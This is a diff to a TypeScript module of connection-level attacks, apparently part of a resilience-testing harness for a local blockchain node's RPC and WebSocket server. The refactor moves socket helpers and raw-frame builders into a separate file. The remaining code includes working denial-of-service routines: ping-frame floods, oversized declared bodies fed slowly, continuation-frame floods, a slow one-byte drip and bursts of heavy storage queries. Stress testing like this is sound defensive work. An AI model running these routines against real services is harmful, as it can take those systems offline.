@@ -1,48 +1,6 @@
 import { once } from 'node:events'
-import { connect, type Socket } from 'node:net'
-import WebSocket from 'ws'
-import { type Attack, crowd, pause, request, send, type Target, until } from './attack.ts'
-
-/** Opens a WebSocket that takes what comes and forgets it. */
-async function open({ ws }: Target): Promise<WebSocket> {
-  const socket = new WebSocket(ws, { perMessageDeflate: false })
-  socket.on('error', () => socket.terminate())
-  await once(socket, 'open')
-  return socket
-}
-
-/** Sends a request and waits for its answer; rejects when the socket closes. */
-function ask(socket: WebSocket, text: string, id: unknown): Promise<{ result?: unknown }> {
-  return new Promise((resolve, reject) => {
-    const listen = (data: Buffer) => {
-      if (!data.subarray(0, 200).includes(`"id":${JSON.stringify(id)}`)) return
-      socket.off('message', listen)
-      resolve(JSON.parse(data.toString()) as { result?: unknown })
-    }
-    socket.on('message', listen)
-    socket.once('close', () => reject(new Error('closed')))
-    socket.send(text)
-  })
-}
-
-/** A bare connection that sends some bytes. What it is sent it does not read. */
-async function deaf({ port }: Target, bytes: Buffer | string): Promise<Socket> {
-  const socket = connect(port, '127.0.0.1')
-  socket.on('error', () => socket.destroy())
-  await once(socket, 'connect')
-  socket.pause()
-  socket.write(bytes)
-  return socket
-}
-
-const UPGRADE =
-  'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n'
-
-const post = (body: string) =>
-  `POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
-
-const batchOf = (method: string, size: number, params: readonly unknown[] = []) =>
-  `[${Array.from({ length: size }, (_, id) => request(method, params, id)).join(',')}]`
+import { type Attack, crowd, pause, request, send, until } from './attack.ts'
+import { ask, batchOf, deaf, frame, longHead, open, post, push, say, UPGRADE } from './client.ts'
 
 export const connectionAttacks: readonly Attack[] = [
   {
@@ -68,10 +26,10 @@ export const connectionAttacks: readonly Attack[] = [
             const { result: follow } = await ask(socket, request('chainHead_v1_follow', [false], 'f'), 'f')
             const { result: block } = await ask(socket, request('chain_getFinalizedHead', [], 'h'), 'h')
             for (let id = 0; id < 16; id++)
-              socket.send(request('chainHead_v1_storage', [follow, block, items, null], id))
+              say(socket, request('chainHead_v1_storage', [follow, block, items, null], id))
           } else {
             const { result: block } = await ask(socket, request('chain_getBlockHash', [0], 'h'), 'h')
-            for (let id = 0; id < 16; id++) socket.send(request('archive_v1_storage', [block, items, null], id))
+            for (let id = 0; id < 16; id++) say(socket, request('archive_v1_storage', [block, items, null], id))
           }
           await until(signal, 5000)
         } finally {
@@ -127,7 +85,7 @@ export const connectionAttacks: readonly Attack[] = [
           ...Array.from({ length: 50 }, () => frame(0x89, 'x'.repeat(120))),
         ])
         while (!closed && !signal.aborted) {
-          if (!socket.write(frames)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), until(signal)])
+          if (!push(socket, frames)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), until(signal)])
           await pause(1)
         }
         socket.destroy()
@@ -146,14 +104,14 @@ export const connectionAttacks: readonly Attack[] = [
                 target,
                 `POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: ${size}\r\n\r\n`,
               )
-        if (index % 2 === 0) socket.write(Buffer.concat([longHead(size), Buffer.alloc(4)]))
+        if (index % 2 === 0) push(socket, Buffer.concat([longHead(size), Buffer.alloc(4)]))
         let closed = false
         socket.once('close', () => {
           closed = true
         })
         const chunk = Buffer.alloc(64 * 1024, 0x20)
         for (let sent = 0; sent < size - 2 * chunk.length && !closed && !signal.aborted; sent += chunk.length)
-          if (!socket.write(chunk)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), until(signal)])
+          if (!push(socket, chunk)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), until(signal)])
         await Promise.race([once(socket, 'close'), until(signal, 3000)])
         socket.destroy()
         await pause(50)
@@ -170,9 +128,9 @@ export const connectionAttacks: readonly Attack[] = [
           closed = true
         })
         const parts = Buffer.concat(Array.from({ length: 4096 }, () => frame(0x00, ' ')))
-        socket.write(frame(0x01, '['))
+        push(socket, frame(0x01, '['))
         while (!closed && !signal.aborted)
-          if (!socket.write(parts)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), until(signal)])
+          if (!push(socket, parts)) await Promise.race([once(socket, 'drain'), once(socket, 'close'), until(signal)])
         socket.destroy()
         await pause(50)
       }),
@@ -210,7 +168,7 @@ export const connectionAttacks: readonly Attack[] = [
           closed = true
         })
         while (!closed && !signal.aborted) {
-          socket.write('a')
+          push(socket, 'a')
           await Promise.race([once(socket, 'close'), until(signal, 2000)])
         }
         socket.destroy()
@@ -253,20 +211,3 @@ export const connectionAttacks: readonly Attack[] = [
       }),
   },
 ]
-
-function frame(first: number, text: string): Buffer {
-  const payload = Buffer.from(text)
-  const head =
-    payload.length < 126
-      ? Buffer.from([first, 0x80 | payload.length])
-      : Buffer.from([first, 0x80 | 126, payload.length >> 8, payload.length & 255])
-  return Buffer.concat([head, Buffer.alloc(4), payload])
-}
-
-function longHead(size: number): Buffer {
-  const head = Buffer.alloc(10)
-  head.writeUInt8(0x81, 0)
-  head.writeUInt8(0x80 | 127, 1)
-  head.writeBigUInt64BE(BigInt(size), 2)
-  return head
-}
